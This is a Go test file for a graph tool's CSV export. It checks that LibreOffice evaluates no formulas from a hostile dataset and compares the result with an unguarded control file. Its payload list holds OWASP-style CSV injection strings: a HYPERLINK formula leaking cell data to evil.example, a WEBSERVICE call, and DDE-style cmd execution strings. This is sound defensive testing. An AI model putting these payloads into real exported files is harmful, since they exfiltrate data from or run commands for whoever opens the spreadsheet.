package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/dipgraph/dipgraph/data"
	"github.com/dipgraph/dipgraph/graph"
)

// hostileText is text from an imported dataset that a spreadsheet would
// run (OWASP's CSV injection examples).
var hostileText = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, `=1+1`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `'=1+1`, `=SUM(1;2)`, `=WEBSERVICE("http://evil.example/")`,
}

// TestSpreadsheetOpensCSV: LibreOffice Calc opens the sheets export -f csv
// and stats --csv write for a dataset full of formulas, and evaluates
// none of them; the same text written without the guard (a control, to
// show this LibreOffice does evaluate formulas in a CSV) gives formulas.
func TestSpreadsheetOpensCSV(t *testing.T) {
	needTool(t, "localc", "libreoffice-calc")
	soffice := needTool(t, "soffice", "libreoffice-calc")
	dir := t.TempDir()
	ds := &graph.Dataset{ID: "hostile", Title: "Hostile", Sources: []graph.Source{{ID: "s", Title: hostileText[0]}}}
	for i, p := range hostileText {
		ds.Entities = append(ds.Entities, graph.Entity{ID: fmt.Sprintf("e%d", i), Kind: graph.KindCountry, Name: p, Note: p, Aliases: []string{p}})
		ds.Types = append(ds.Types, graph.Type{ID: fmt.Sprintf("t%d", i), Label: p, Sign: graph.Negative, Weight: 1})
	}
	for i, p := range hostileText {
		ds.Records = append(ds.Records, graph.Record{Type: fmt.Sprintf("t%d", i), Parties: []string{"e0", fmt.Sprintf("e%d", max(i, 1))},
			Start: graph.MustDate("2020"), Label: p, Note: p, Cite: p, Source: "s"})
	}
	file := filepath.Join(dir, "hostile.yaml")
	if err := os.WriteFile(file, data.EncodeYAML(ds), 0o644); err != nil {
		t.Fatal(err)
	}
	sheets := filepath.Join(dir, "sheets")
	var stdout, stderr bytes.Buffer
	if code := Run(context.Background(), []string{"export", "-f", "csv", "-o", sheets, file}, strings.NewReader(""), &stdout, &stderr); code != exitOK {
		t.Fatalf("export: exit %d: %s", code, stderr.String())
	}
	stdout.Reset()
	if code := Run(context.Background(), []string{"stats", "--csv", "--table", "types", file}, strings.NewReader(""), &stdout, &stderr); code != exitOK {
		t.Fatalf("stats: exit %d: %s", code, stderr.String())
	}
	if err := os.WriteFile(filepath.Join(sheets, "stats-types.csv"), stdout.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	// The control: the hostile text as a plain CSV writer writes it.
	var control bytes.Buffer
	w := csv.NewWriter(&control)
	w.Write([]string{"text"})
	for _, p := range hostileText {
		w.Write([]string{p})
	}
	w.Flush()
	controlDir := filepath.Join(dir, "control")
	os.Mkdir(controlDir, 0o755)
	if err := os.WriteFile(filepath.Join(controlDir, "control.csv"), control.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	formula := regexp.MustCompile(`table:formula="[^"]*"`)
	convert := func(in string) string {
		out := filepath.Join(dir, "fods")
		runTool(t, 120*time.Second, soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
			"--convert-to", "fods", "--outdir", out, in)
		b, err := os.ReadFile(filepath.Join(out, strings.TrimSuffix(filepath.Base(in), ".csv")+".fods"))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	if got := formula.FindAllString(convert(filepath.Join(controlDir, "control.csv")), -1); len(got) == 0 {
		t.Fatal("the control sheet gave no formula: this LibreOffice does not evaluate formulas in a CSV, so the check proves nothing")
	} else {
		t.Logf("control: LibreOffice made %d formulas of the unguarded text, e.g. %s", len(got), got[0])
	}
	entries, err := os.ReadDir(sheets)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		doc := convert(filepath.Join(sheets, e.Name()))
		if got := formula.FindAllString(doc, -1); len(got) > 0 {
			t.Errorf("%s: LibreOffice made formulas: %q", e.Name(), got)
		}
		if e.Name() == "relations.csv" && !strings.Contains(doc, "=HYPERLINK(") {
			t.Errorf("%s: the text is not in the sheet", e.Name())
		}
	}
}
